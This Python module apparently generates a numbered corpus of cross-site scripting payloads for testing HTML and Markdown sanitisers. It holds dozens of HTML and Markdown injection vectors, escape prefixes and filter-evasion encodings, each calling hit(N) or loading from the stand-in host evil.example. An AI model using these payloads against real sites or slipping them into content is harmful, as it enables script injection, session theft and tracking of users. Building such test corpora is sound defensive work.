"""Strings that run a script or call another host where a page writes them as they came.

Each calls ``hit(NUMBER)`` or asks for ``//evil.example/NUMBER``, so that whatever happens names its
string. Techniques, ways out of where they are written, and disguises are combined.
"""

from __future__ import annotations

import html
import random
import re
from collections.abc import Callable
from itertools import product

HOST = "evil.example"

# H: what runs; U: an address elsewhere.
_MARKUP = """
<script>H</script>
<script src=//U></script>
<script src="data:text/javascript,H"></script>
<script type=module>H</script>
<scr<script>ipt>H</scr</script>ipt>
<<script>H//<</script>
<script/x>H</script\t>
<script>H
<img src=x onerror=H>
<img src=//U>
<img srcset="//U 1x">
<img src="x`" `onerror=H>
<img/src=x/onerror=H>
<img src=x onerror="H"//
<image src=x onerror=H>
<picture><source srcset=//U><img src=x onerror=H></picture>
<svg onload=H>
<svg/onload=H//
<svg><script>H</script></svg>
<svg><animate onbegin=H attributeName=x dur=1s>
<svg><a xlink:href="javascript:H"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='H'/>#x">
<svg><image href="//U"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.H</script>"></foreignObject></svg>
<svg><style><img src=x onerror=H></style></svg>
<math><mi xlink:href="javascript:H">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=H>
<math><annotation-xml encoding="text/html"><img src=x onerror=H></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=H>
<iframe src="javascript:H"></iframe>
<iframe srcdoc="<script>parent.H</script>"></iframe>
<iframe src=//U></iframe>
<frameset onload=H>
<object data="javascript:H"></object>
<object data=//U></object>
<embed src="javascript:H">
<embed src=//U>
<applet code=//U></applet>
<video src=x onerror=H></video>
<video poster=//U></video>
<video><source onerror=H></video>
<audio src=//U autoplay></audio>
<audio src=x onerror=H>
<body onload=H>
<body background=//U>
<table background=//U><tr><td background=//U>x</table>
<input autofocus onfocus=H>
<input type=image src=//U onerror=H>
<select autofocus onfocus=H>
<textarea autofocus onfocus=H>
<button formaction="javascript:H">x</button>
<form action="javascript:H"><input type=submit></form>
<details open ontoggle=H>
<marquee onstart=H>x</marquee>
<a href="javascript:H">x</a>
<a href=//U ping=//U>x</a>
<a tabindex=1 autofocus onfocus=H>x</a>
<div onmouseover=H style="position:fixed;inset:0">x</div>
<div style="background:url(//U)">x</div>
<style>@import "//U";</style>
<style>*{background:url(//U)}</style>
<style onload=H></style>
<link rel=stylesheet href=//U>
<link rel=prefetch href=//U>
<link rel=preload as=image href=//U>
<base href=//U/>
<meta http-equiv=refresh content="0;url=javascript:H">
<meta http-equiv=refresh content="0;url=//U">
<noscript><p title="</noscript><img src=x onerror=H>">
<template><script>H</script></template>
<title><img src=x onerror=H></title>
<textarea><img src=x onerror=H></textarea>
<xmp><p title="</xmp><img src=x onerror=H>">
<style><p title="</style><img src=x onerror=H>">
<noembed><p title="</noembed><img src=x onerror=H>">
<plaintext><img src=x onerror=H>
<!--><img src=x onerror=H>-->
<!-- --!><img src=x onerror=H>
<![CDATA[><img src=x onerror=H>]]>
<?xml-stylesheet href="javascript:H"?><img src=x onerror=H>
<dialog open onclose=H><form method=dialog autofocus>
<x contenteditable onblur=H autofocus tabindex=1>
<p style="animation:x" onanimationstart=H>
<keygen autofocus onfocus=H>
<isindex action=javascript:H type=submit>
""".strip().splitlines()

_MARKDOWN = """
[x](javascript:H)
[x](<javascript:H>)
[x](JaVaScRiPt:H "t")
[x](java\tscript:H)
[x](&#106;avascript:H)
[x](javascript&colon;H)
[x](\\javascript:H)
[x](vbscript:H)
[x](data:text/html,<script>H</script>)
[x](data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDApPC9zY3JpcHQ+)
[x](blob:H)
[x](file:///U)
[x](//U)
[x](" onmouseover="H)
[x](x "a\\" onmouseover=\\"H")
[x]("><img src=x onerror=H>)
![x](//U)
![x](https://U/a.png)
![x](javascript:H)
![x](data:image/svg+xml,<svg onload=H>)
![x](" onerror="H)
![" onerror="H](x.png)
[![x](//U)](javascript:H)
![x][H]
[x][ref]%%[ref]: javascript:H
![x][pic]%%[pic]: //U "t"
<javascript:H>
<https://U/"onmouseover=H>
<data:text/html,H>
# <img src=x onerror=H>
> <script>H</script>
- <svg onload=H>
`<img src=x onerror=H>`
```" onmouseover="H%%<script>H</script>%%```
~~~html%%<script>H</script>%%~~~
| <img src=x onerror=H> | x |%%|---|---|%%| <svg onload=H> | ![x](//U) |
[x]: javascript:H%%[x]
**<img src=x onerror=H>**
\\<script>H</script>
&lt;script&gt;H&lt;/script&gt;
&#60;script&#62;H&#60;/script&#62;
https://U/<script>H</script>
<a href="x" title="</a><img src=x onerror=H>">x</a>
[[javascript:H|x]]
{{javascript:H}}
{{H}}${H}#{H}<%= H %>
""".strip().splitlines()

_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "-->",
    "]]>",
    ")",
    '" x="',
    "</mark></h1></a>",
)


def _mixed(text: str) -> str:
    """In mixed case where a browser does not mind, but for what runs."""
    lead, sep, rest = text.partition("<")
    name = rest[:6]
    return lead + sep + "".join(c.upper() if i % 2 else c for i, c in enumerate(name)) + rest[6:]


_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _mixed,
    lambda text: text.replace("javascript:", "java\tscript:").replace(" on", "\fon"),
    lambda text: text.replace("javascript:", "&#x6A;avascript&#58;").replace(" on", "/on"),
    lambda text: text.replace("javascript:", "\u0001javascript:").replace("=x ", '=x"" '),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\u00ad<\u200b").replace("=", " = "),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: html.escape(text, quote=True),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: "\u202e" + text + "\u2066",
)


def payloads(most: int) -> list[str]:
    """So many different ones: every technique as it is, then others drawn from all combinations.
    The number that one calls is its place."""
    plain = [*_MARKUP, *_MARKDOWN]
    drawn = [
        disguise(out + technique)
        for disguise, out in product(_DISGUISES, _OUT)
        for technique in (plain if not out else _MARKUP)
        if disguise is not _DISGUISES[0] or out
    ]
    random.Random(1).shuffle(drawn)
    made = list(dict.fromkeys(plain + drawn))[:most]
    assert len(made) == most
    return [_numbered(one, number) for number, one in enumerate(made)]


def _numbered(told: str, number: int) -> str:
    told = re.sub(r"\bU\b", f"{HOST}/{number}", told.replace("%%", "\n"))
    return re.sub(r"\bH\b", f"hit({number})", told)


SWALLOWS = ("<!--", "<plaintext", "<textarea", "<title", "<xmp", "<style", "<script", "<noscript")
"""What takes everything behind it along where a reader parses HTML."""
